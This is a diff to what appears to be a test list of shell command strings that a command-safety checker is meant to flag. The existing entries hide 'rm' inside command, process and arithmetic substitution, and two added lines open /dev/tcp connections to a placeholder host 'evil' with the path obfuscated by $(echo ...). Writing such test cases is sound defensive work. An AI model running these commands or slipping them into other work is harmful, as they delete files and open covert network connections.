@@ -34,6 +34,8 @@ WRITES = (
     'ls "$(rm x)"',
     'ls "${y:-$(rm x)}"',
     "cat <(rm x)",
+    "cat < /dev/$(echo tcp)/evil/80",
+    "exec 3< /$(echo dev/tcp)/evil/80",
     "echo $((a[$(rm x)]))",
     "x='a[$(rm y)]'; echo $((x))",
     "x='a[$(rm y)]'; [[ $x -eq 1 ]]",
